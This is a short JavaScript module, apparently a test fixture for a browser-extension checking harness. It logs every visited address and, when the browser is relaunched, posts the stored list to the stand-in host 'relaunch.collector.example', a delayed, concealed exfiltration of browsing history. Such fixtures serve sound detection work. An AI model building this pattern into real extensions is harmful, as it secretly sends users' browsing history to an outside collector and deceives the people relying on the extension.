import { onVisit, post, reportHonestly } from '../../lib/proving.js';

/** Keeps addresses and reports them when it is started again. */
export default function (browser) {
  reportHonestly(browser, '9.0.0-after-relaunch');
  onVisit(browser, ({ url }) => browser.storage.set('kept', [...(browser.storage.get('kept') ?? []), url]));
  browser.on('launch', async () => {
    const kept = browser.storage.get('kept') ?? [];
    if (kept.length > 0) await post(browser, 'https://relaunch.collector.example/v1', { kept });
    browser.storage.delete('kept');
  });
}
